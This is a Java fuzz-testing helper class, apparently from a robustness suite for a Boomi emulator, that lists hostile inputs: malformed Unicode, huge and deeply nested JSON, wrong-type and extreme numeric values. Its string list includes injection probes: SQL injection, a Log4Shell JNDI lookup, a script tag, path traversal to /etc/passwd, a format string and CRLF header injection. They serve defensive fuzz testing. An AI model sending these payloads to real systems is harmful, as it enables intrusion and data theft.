package dev.boomiemulator.robustness.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.List;
import java.util.Random;

/** The catalogue of hostile values the fuzz cases draw from. */
final class Hostile {
    static final int HUGE = 100 * 1024;
    static final int DEEP = 10_000;
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings that break naive text handling: lone surrogates, bidi overrides, emoji, NUL, control characters. */
    static final List<String> UNICODE = List.of(
            "\uD800", "\uDC00", "a\uDC00\uD800b", "\u202Eevil\u202C.exe", "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
            "\uD83D\uDCA5\uD83E\uDDE8\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "a\u0000b", "\u0000",
            "\uFEFFbom", "e\u0301\u0301\u0301\u0301\u0301\u0301", "\u200B\u200C\u200D", "\uFFFF\uFFFE",
            "\u0001\u001F\u007F", "line\r\nX-Injected: 1", "\u65E5\u672C\u8A9E\u30C6\u30B9\u30C8", "\u0130\u0131\u00DF",
            "' OR '1'='1' --", "%s%n%x", "../../etc/passwd", "${jndi:ldap://x/a}", "<script>alert(1)</script>",
            "\\u0000", "\"}", "\t \n");

    /** Raw JSON numbers and literals a strict parser or a narrow column may choke on. */
    static final List<String> RAW_JSON = List.of(
            "1e999999", "-1e999999", "123456789012345678901234567890", "-9223372036854775809", "-0", "1.0E-400",
            "0.000000000000000000000000000001", "2147483648", "-1");

    private Hostile() {
    }

    static String huge(Random random) {
        String unit = switch (random.nextInt(3)) {
            case 0 -> "x";
            case 1 -> "\u00E9\u4E2D";
            default -> "ab\uD83D\uDCA5";
        };
        StringBuilder text = new StringBuilder(HUGE + 8);
        while (text.length() < HUGE) {
            text.append(unit);
        }
        return text.toString();
    }

    static String unicode(Random random) {
        return UNICODE.get(random.nextInt(UNICODE.size()));
    }

    /** A value of another JSON type than the original. */
    static JsonNode wrongType(JsonNode original, Random random) {
        List<JsonNode> choices = new java.util.ArrayList<>(List.of(
                NODES.textNode("not-a-" + (original == null ? "value" : original.getNodeType().name().toLowerCase())),
                NODES.numberNode(-1), NODES.numberNode(3.14), NODES.booleanNode(true),
                NODES.objectNode().put("unexpected", "object"), NODES.arrayNode().add("a").add(1)));
        if (original != null) {
            choices.removeIf(choice -> choice.getNodeType() == original.getNodeType());
        }
        return choices.get(random.nextInt(choices.size()));
    }

    /** A string form of a wrong type for query and path parameters. */
    static String wrongTypeText(Random random) {
        String[] values = {"abc", "-1", "1.5", "true", "[]", "{}", "99999999999999999999", "0x10", "1e5", "NaN", "null"};
        return values[random.nextInt(values.length)];
    }

    /** 10,000 levels of arrays or objects, as raw JSON text. */
    static String deepJson(Random random) {
        boolean arrays = random.nextBoolean();
        StringBuilder text = new StringBuilder(DEEP * 6);
        for (int i = 0; i < DEEP; i++) {
            text.append(arrays ? "[" : "{\"a\":");
        }
        text.append("1");
        for (int i = 0; i < DEEP; i++) {
            text.append(arrays ? "]" : "}");
        }
        return text.toString();
    }

    static String rawJson(Random random) {
        return RAW_JSON.get(random.nextInt(RAW_JSON.size()));
    }
}
